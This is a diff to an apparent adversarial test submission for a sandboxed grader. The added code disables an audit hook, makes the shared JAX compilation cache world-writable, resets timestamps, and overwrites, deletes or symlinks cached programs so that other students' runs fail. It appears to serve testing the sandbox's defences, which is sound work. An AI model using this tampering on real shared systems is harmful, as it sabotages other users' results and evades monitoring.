@@ -2,9 +2,12 @@
 
 The folder of compiled library programs (jax_compilation_cache_dir in the sandbox) is
 shared by every grading on the machine. This submission switches the audit hook off and
-tries every way to change it: garbage written over each program, files renamed, removed,
-replaced by links and new ones added, so that the next student's random draws crash or
-come out wrong. Its own functions are correct: it must get full marks and change nothing.
+tries every way to change it: the folder and its files made writable for everyone (for a
+local accomplice to poison later: this worked under Landlock as an ordinary user, whose
+sandbox could chmod the files it owns), their times reset, garbage written over each
+program, files renamed, removed, replaced by links and new ones added, so that the next
+student's random draws crash or come out wrong. Its own functions are correct: it must get
+full marks and change nothing.
 """
 
 import gc
@@ -37,12 +40,18 @@ def library_folders():
 
 
 def poison(folder):
+    for attempt in (lambda: os.chmod(folder, 0o777), lambda: os.utime(folder, (0, 0))):
+        try:
+            attempt()
+        except OSError:
+            pass
     for name in os.listdir(folder):
         path = os.path.join(folder, name)
         for attempt in (
             lambda: open(path, "r+b").write(b"\0" * 64),
             lambda: open(path, "ab").write(b"garbage"),
             lambda: os.chmod(path, 0o666),
+            lambda: os.utime(path, (0, 0)),
             lambda: os.rename(path, path + ".moved"),
             lambda: os.unlink(path),
             lambda: os.symlink("/dev/zero", path),
